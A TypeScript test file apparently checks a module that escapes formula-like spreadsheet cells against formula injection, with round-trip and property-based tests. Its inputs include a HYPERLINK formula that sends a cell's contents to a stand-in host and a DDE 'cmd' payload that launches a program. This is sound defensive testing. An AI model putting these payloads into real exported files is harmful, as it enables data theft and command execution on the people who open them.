import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isFormulaLike, neutraliseCell, restoreCell } from "./spreadsheet-safe.ts";

describe("spreadsheet-safe cells", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["+1", "'+1"],
    ["+34 600 000 000", "'+34 600 000 000"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["-2+3", "'-2+3"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["＝1+1", "'＝1+1"],
    ["'=1+1", "''=1+1"],
    ["''@x", "'''@x"],
  ])("neutralises %j", (value, written) => {
    expect(isFormulaLike(value)).toBe(true);
    expect(neutraliseCell(value)).toBe(written);
    expect(restoreCell(written)).toBe(value);
  });

  it.each([
    "-5",
    "-12.50",
    "-3,5",
    "2026-11-05",
    "USB-C cable",
    "'quoted'",
    "'",
    "",
    "a=b",
    " =1",
    "LP00123456789012",
  ])("keeps %j as it is, both ways", (value) => {
    expect(isFormulaLike(value)).toBe(false);
    expect(neutraliseCell(value)).toBe(value);
    expect(restoreCell(value)).toBe(value);
  });

  it("restores whatever it neutralised, for any text", () => {
    const trigger = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", "＝", "5");
    const text = fc
      .tuple(fc.array(trigger, { maxLength: 4 }), fc.string())
      .map(([head, tail]) => head.join("") + tail);
    fc.assert(
      fc.property(text, (value) => {
        const written = neutraliseCell(value);
        expect(restoreCell(written)).toBe(value);
        // What a spreadsheet reads never starts a formula (a plain negative number is a number).
        expect(/^[=+\-@\t\r\n＝＋－＠]/u.test(written) && !/^-\d+(?:[.,]\d+)?$/.test(written)).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });
});
